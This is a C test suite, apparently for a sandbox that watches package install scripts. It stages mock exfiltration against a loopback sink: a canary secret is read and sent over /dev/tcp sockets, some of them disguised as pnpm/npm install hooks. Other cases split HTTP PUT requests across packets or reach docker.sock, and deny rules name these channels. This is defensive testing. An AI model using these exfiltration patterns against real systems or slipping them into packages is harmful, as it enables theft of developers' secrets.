// SPDX-License-Identifier: GPL-2.0-only
/*
 * test_net.c - every way to send: towards a forbidden address, and anywhere after a secret was
 * touched. A sink on loopback is the witness: not one byte may arrive, not even after the session
 * is over.
 */
#include <errno.h>
#include <fcntl.h>
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <unistd.h>

#include <cmocka.h>

#include "attack.h"
#include "base/cleanup.h"
#include "sink.h"

#define NOTE RULE("note", "\"read\"", "alert", "\"path\":[\"~/note\"],\"label\":\"secret\",")

static const char *const addresses[] = {
	RULE("forbidden", "\"connect\"", "kill", "\"address\":[\"127.0.0.99/32\",\"::1/128\"],"),
	NULL,
};
static const char *const by_scope[] = {
	NOTE,
	RULE("egress", "\"connect\",\"send\"", "kill", "\"after\":[\"secret\"],"),
	NULL,
};
static const char *const by_session[] = {
	NOTE,
	RULE("egress", "\"connect\",\"send\"", "kill", "\"after\":[\"session:secret\"],"),
	NULL,
};
static const char *const budgets[] = {
	RULE("budget", "\"send\"", "kill", "\"count\":{\"over\":65536,\"of\":\"bytes\"},"),
	NULL,
};

static const char *const sockets[] = {
	RULE("sock", "\"unix\"", "kill", "\"path\":[\"/**/docker.sock\",\"/**/notify.sock\"],"),
	NULL,
};

static const char *const publishing[] = {
	RULE("publish", "\"send\"", "kill", "\"http\":[\"PUT\",\"PATCH\",\"DELETE\"],"),
	NULL,
};

static struct sink *sink;

static int begin(void **state, const char *const *rules)
{
	(void)state;
	attack_begin(rules);
	assert_int_equal(stage_job(&s, "printf '%s\\n' CANARY-NOTE > $HOME/note"), 0);
	sink_reset(sink);
	return 0;
}
static int begin_addresses(void **state)
{
	return begin(state, addresses);
}
static int begin_scope(void **state)
{
	return begin(state, by_scope);
}
static int begin_session(void **state)
{
	return begin(state, by_session);
}
static int begin_budget(void **state)
{
	return begin(state, budgets);
}

static int begin_publishing(void **state)
{
	return begin(state, publishing);
}

static int begin_sockets(void **state)
{
	return begin(state, sockets);
}

static int end(void **state)
{
	(void)state;
	sink_reset(sink);
	stage_close(&s);
	/* data that the kernel still holds for a dead process is not sent after the session either
	 */
	assert_int_equal(sink_bytes(sink), 0);
	return 0;
}

/* Modes that do not send to ADDRESS:PORT, or not over IP. */
static bool elsewhere(const char *mode)
{
	return !strncmp(mode, "unix", 4) || !strcmp(mode, "packet") || !strcmp(mode, "vsock") ||
	       !strcmp(mode, "sctp");
}

static bool only_v4(const char *mode)
{
	return !strcmp(mode, "ping") || !strcmp(mode, "raw-icmp") || !strcmp(mode, "udp-unspec") ||
	       !strcmp(mode, "accept");
}

/* Control: without a rule each mode sends. */
static void test_control(void **state)
{
	struct modes m;
	int failed = 0;

	(void)state;
	attack_modes(&m, "net");
	for (size_t i = 0; i < m.count; i++) {
		enum outcome o;

		if (elsewhere(m.name[i]) || (attack_slow() && i % 4))
			continue;
		o = attack(&s, "exec $B/net %s 127.0.0.1:%u", m.name[i], sink_port(sink));
		if (o != OUTCOME_THROUGH) {
			attack_tell(m.name[i], o, "it should have got through");
			failed += o != OUTCOME_UNSUPPORTED;
		}
		failed += s.verdict_count != 0;
	}
	assert_int_equal(failed, 0);
	assert_true(sink_bytes(sink) > 0);
	sink_reset(sink);
}

/* Killed or refused, reported, and nothing arrived. */
static bool stopped(enum outcome o, const char *rule, const char *what)
{
	const struct stage_verdict *v = stage_verdict(&s, rule);
	uint64_t bytes = sink_bytes(sink);
	bool fine;

	/* a stream socket accepts the bytes, and they are dropped later: EFFECT proves nothing */
	if (o == OUTCOME_THROUGH && v && v->effect == WS_EFFECT_DROPPED)
		o = OUTCOME_REFUSED;
	fine = !bytes && ((o == OUTCOME_UNSUPPORTED && !v) ||
			  (v && v->effect != WS_EFFECT_NONE &&
			   (o == OUTCOME_KILLED || o == OUTCOME_REFUSED)));

	if (!fine)
		attack_tell(what, o, "%lu bytes, %u connections, %u verdicts, effect %u", bytes,
			    sink_connections(sink), s.verdict_count, v ? v->effect : 0);
	sink_reset(sink);
	return fine;
}

static const char *address_for(const char *mode, bool six)
{
	return six && !only_v4(mode) ? "[::1]" : "127.0.0.1";
}

/* The label is set before the script uses the network. */
static void test_after_secret(void **state)
{
	struct modes m;
	int failed = 0;

	(void)state;
	attack_modes(&m, "net");
	for (size_t i = 0; i < m.count; i++) {
		enum outcome o;

		if (elsewhere(m.name[i]))
			continue;
		o = attack(&s, "cat $HOME/note > /dev/null; exec $B/net %s %s:%u $HOME/note",
			   m.name[i], address_for(m.name[i], i % 2), sink_port(sink));
		if (o != OUTCOME_UNSUPPORTED && sink_connections(sink)) {
			attack_tell(m.name[i], o, "it was let connect");
			failed++;
		}
		failed += !stopped(o, "egress", m.name[i]);
	}
	assert_int_equal(failed, 0);
}

/* The socket is there, and connected if possible, before the secret is read. */
static void test_before_secret(void **state)
{
	struct modes m;
	int failed = 0;

	(void)state;
	attack_modes(&m, "net");
	for (size_t i = 0; i < m.count; i++) {
		for (int six = 0; six < 2; six++) {
			enum outcome o;

			if (elsewhere(m.name[i]) || !strcmp(m.name[i], "connect") ||
			    (six && only_v4(m.name[i])))
				continue;
			o = attack(&s, "exec $B/net %s %s:%u $HOME/note late", m.name[i],
				   address_for(m.name[i], six), sink_port(sink));
			failed += !stopped(o, "egress", m.name[i]);
		}
	}
	assert_int_equal(failed, 0);
}

static void test_forbidden_address(void **state)
{
	static const char *const to[] = { "127.0.0.99", "[::1]", "[::ffff:127.0.0.99]" };
	struct modes m;
	int failed = 0;

	(void)state;
	attack_modes(&m, "net");
	for (size_t i = 0; i < m.count; i++) {
		for (size_t k = 0; k < ARRAY_SIZE(to); k++) {
			enum outcome o;

			if (elsewhere(m.name[i]) || (k && only_v4(m.name[i])) ||
			    !strcmp(m.name[i], "accept"))
				continue;
			o = attack(&s, "exec $B/net %s %s:%u", m.name[i], to[k], sink_port(sink));
			if (sink_connections(sink)) {
				attack_tell(m.name[i], o, "%s: it was let connect", to[k]);
				failed++;
			}
			failed += !stopped(o, "forbidden", m.name[i]);
		}
	}
	assert_int_equal(failed, 0);
}

/* ---- somebody else's socket ---- */

/*
 * A socket that the test itself connected, outside the session: its packets do not pass the
 * session's cgroup, and no scope made it. It can only be refused where sending itself is judged.
 */
static void test_inherited(void **state)
{
	int fd = sink_dial(sink);
	enum outcome o;

	(void)state;
	assert_true(fd >= 0);
	o = attack(&s, "exec bash -c 'cat $HOME/note >&%d'", fd);
	close(fd);
	if (backend == WS_BACKEND_DENY) {
		assert_true(stopped(o, "egress", "inherited"));
	} else {
		limit("a socket of somebody outside the session", sink_bytes(sink) > 0);
		sink_reset(sink);
	}
}

/*
 * The same by the job, before it becomes the manager: the socket belongs to the session, but to no
 * scope.
 */
static void test_managers_socket(void **state)
{
	char script[2048];
	int status;

	(void)state;
	snprintf(script, sizeof(script),
		 "mkdir node_modules/heir && cat > $W/tmp/manager <<'E' && "
		 "exec bash -c 'exec 7<>/dev/tcp/127.0.0.1/%u; exec -a pnpm sh $W/tmp/manager'\n"
		 "(cd node_modules/heir && export npm_lifecycle_event=install "
		 "npm_package_name=heir && "
		 "exec sh -c 'cat $HOME/note >&7; sleep 1'); exit $?\nE\n",
		 sink_port(sink));
	status = stage_job(&s, script);
	assert_int_equal(s.scopes, 1);
	assert_true(stopped(stage_killed(status) ? OUTCOME_KILLED : OUTCOME_THROUGH, "egress",
			    "the manager's socket"));
}

/* One package reads, another one sends over a connection that it had before: the label is the
 * session's. */
static void test_session_label(void **state)
{
	char script[2048];
	int status;

	(void)state;
	snprintf(script, sizeof(script),
		 "mkdir node_modules/a node_modules/b && cat > $W/tmp/manager <<'E' && exec bash "
		 "-c 'exec -a pnpm sh $W/tmp/manager'\n"
		 "export npm_lifecycle_event=install; cd node_modules\n"
		 "(cd b && npm_package_name=b exec bash -c 'exec 7<>/dev/tcp/127.0.0.1/%u; : > "
		 "$W/tmp/ready; "
		 "while ! [ -e $W/tmp/go ]; do sleep 0.05; done; echo CANARY-NOTE >&7; echo x > "
		 "$W/tmp/alive') &\n"
		 "(cd a && npm_package_name=a exec sh -c 'while ! [ -e $W/tmp/ready ]; do sleep "
		 "0.05; done; "
		 "cat $HOME/note > /dev/null; : > $W/tmp/go') &\nwait; exit 0\nE\n",
		 sink_port(sink));
	status = stage_job(&s, script);
	assert_int_equal(status, 0);
	assert_int_equal(s.scopes, 2);
	assert_string_equal(stage_verdict(&s, "note")->package, "a");
	assert_string_equal(stage_verdict(&s, "egress")->package, "b");
	assert_true(stopped(OUTCOME_KILLED, "egress", "another package"));
	assert_true(attack_size(&s, "tmp/alive") <= 0); /* watch: created, not written */
}

/* A megabyte, where a rule permits 64 KB: the rest does not arrive. */
static void test_budget(void **state)
{
	enum outcome o;
	uint64_t bytes;

	(void)state;
	o = attack(&s, "exec bash -c 'exec 7<>/dev/tcp/127.0.0.1/%u; head -c 60000 /dev/zero >&7'",
		   sink_port(sink));
	assert_int_equal(o, OUTCOME_THROUGH);
	assert_int_equal(sink_bytes(sink), 60000);
	sink_reset(sink);
	attack(&s,
	       "exec bash -c 'exec 7<>/dev/tcp/127.0.0.1/%u; for i in 1 2 3 4 5 6 7 8; do head -c "
	       "131072 /dev/zero; sleep 0.01; done >&7'",
	       sink_port(sink));
	bytes = sink_bytes(sink);
	if (bytes > 65536 || !stage_verdict(&s, "budget"))
		fail_msg("%lu bytes arrived, %u verdicts", bytes, s.verdict_count);
	sink_reset(sink);
}

/* ---- requests ---- */

/* Send what `script` writes to descriptor 7, which is connected to the sink. */
static enum outcome send_by(const char *script)
{
	return attack(&s, "exec bash -c 'exec 7<>/dev/tcp/127.0.0.1/%u; %s sleep 0.3'",
		      sink_port(sink), script);
}

#define SEND(text) "printf \"" text "\" >&7; "
#define LATER	   "sleep 0.1; "
#define GET	   "GET /x HTTP/1.1\\r\\nHost: h\\r\\n\\r\\n"
#define PUT	   "PUT /x HTTP/1.1\\r\\nHost: h\\r\\n\\r\\n"
#define POST	   "POST /x HTTP/1.1\\r\\nContent-Length: 19\\r\\n\\r\\n"
#define BODY	   "PUT /x HTTP/1.1\\r\\n\\r\\n"

/* However a request is divided into packets, and whatever comes before it. */
static void test_publishing(void **state)
{
	static const char *const ways[] = {
		SEND(PUT),
		SEND("P") LATER SEND("UT /x HTTP/1.1\\r\\n\\r\\n"),
		SEND("DEL") LATER SEND("ET") LATER SEND("E /x HTTP/1.1\\r\\n\\r\\n"),
		SEND("\\r\\n" PUT),
		SEND("\\r\\n") LATER SEND(PUT),
		SEND(GET PUT),
		SEND(GET) LATER SEND("\\n" PUT),
		SEND(POST BODY PUT),
		SEND(POST) LATER SEND("PUT /x") LATER SEND(" HTTP/1.1\\r\\n\\r\\nPATC")
			LATER SEND("H /x HTTP/1.1\\r\\n\\r\\n"),
	};
	int failed = 0;

	(void)state;
	for (size_t i = 0; i < ARRAY_SIZE(ways); i++) {
		enum outcome o = send_by(ways[i]);

		if (!stage_verdict(&s, "publish")) {
			attack_tell(ways[i], o, "not seen");
			failed++;
		}
		sink_reset(sink);
	}
	assert_int_equal(failed, 0);
}

/* Bodies are bodies; other protocols are left alone. */
static void test_not_publishing(void **state)
{
	static const char *const ways[] = {
		SEND(GET) LATER SEND(GET GET),
		SEND(POST BODY GET),
		SEND(POST) LATER SEND(BODY) LATER SEND(POST BODY),
		SEND("POST /x HTTP/1.1\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n13\\r\\n")
			LATER SEND(BODY) LATER SEND("\\r\\n0\\r\\n\\r\\n" GET),
		SEND("220 smtp\\r\\nPUT it there\\r\\n"),
	};
	int failed = 0;

	(void)state;
	for (size_t i = 0; i < ARRAY_SIZE(ways); i++) {
		enum outcome o = send_by(ways[i]);

		if (o != OUTCOME_THROUGH || s.verdict_count) {
			attack_tell(ways[i], o, "%u verdicts", s.verdict_count);
			failed++;
		}
		sink_reset(sink);
	}
	assert_int_equal(failed, 0);
}

/* ---- sockets in the file system ---- */

static int unix_server(const char *name, int type)
{
	struct sockaddr_un a = { .sun_family = AF_UNIX };
	int fd = socket(AF_UNIX, type | SOCK_CLOEXEC | SOCK_NONBLOCK, 0);

	snprintf(a.sun_path, sizeof(a.sun_path), "%s/tmp/%s", s.dir, name);
	assert_true(fd >= 0);
	assert_int_equal(bind(fd, (void *)&a, sizeof(a)), 0);
	if (type == SOCK_STREAM)
		assert_int_equal(listen(fd, 8), 0);
	return fd;
}

static void test_unix(void **state)
{
	int stream = unix_server("docker.sock", SOCK_STREAM),
	    datagram = unix_server("notify.sock", SOCK_DGRAM);
	char data[128];
	enum outcome o;

	(void)state;
	o = attack(&s, "exec $B/net unix $W/tmp/docker.sock");
	assert_int_equal(o, OUTCOME_KILLED);
	assert_non_null(stage_verdict(&s, "sock"));
	o = attack(&s, "exec $B/net unix-datagram $W/tmp/notify.sock");
	assert_int_equal(o, OUTCOME_KILLED);
	assert_non_null(stage_verdict(&s, "sock"));
	assert_int_equal(recv(datagram, data, sizeof(data), 0), -1);
	o = attack(&s, "exec $B/net unix-sendto $W/tmp/notify.sock");
	if (backend == WS_BACKEND_DENY) {
		assert_int_equal(o, OUTCOME_KILLED);
		assert_non_null(stage_verdict(&s, "sock"));
		assert_int_equal(recv(datagram, data, sizeof(data), 0), -1);
	} else {
		limit("a datagram without connect, by a rule that names the file",
		      recv(datagram, data, sizeof(data), 0) > 0);
	}
	close(stream);
	close(datagram);
}

/* Below IP, which needs root. */
static void test_packet(void **state)
{
	enum outcome o =
		attack(&s, "cat $HOME/note > /dev/null; exec $B/net packet 127.0.0.1:%u $HOME/note",
		       sink_port(sink));

	(void)state;
	if (backend == WS_BACKEND_DENY)
		assert_true(stopped(o, "egress", "packet"));
	else
		limit("a packet socket, made by root", o == OUTCOME_THROUGH);
}

int main(int argc, char **argv)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test_setup_teardown(test_control, begin_addresses, end),
		cmocka_unit_test_setup_teardown(test_forbidden_address, begin_addresses, end),
		cmocka_unit_test_setup_teardown(test_after_secret, begin_scope, end),
		cmocka_unit_test_setup_teardown(test_before_secret, begin_scope, end),
		cmocka_unit_test_setup_teardown(test_inherited, begin_scope, end),
		cmocka_unit_test_setup_teardown(test_managers_socket, begin_scope, end),
		cmocka_unit_test_setup_teardown(test_packet, begin_scope, end),
		cmocka_unit_test_setup_teardown(test_session_label, begin_session, end),
		cmocka_unit_test_setup_teardown(test_budget, begin_budget, end),
		cmocka_unit_test_setup_teardown(test_publishing, begin_publishing, end),
		cmocka_unit_test_setup_teardown(test_not_publishing, begin_publishing, end),
		cmocka_unit_test_setup_teardown(test_unix, begin_sockets, end),
	};
	int failed;

	if (!attack_ready(argc, argv))
		return 77;
	sink = sink_open();
	if (!sink)
		return 1;
	failed = cmocka_run_group_tests(tests, NULL, NULL);
	sink_close(sink);
	return failed;
}
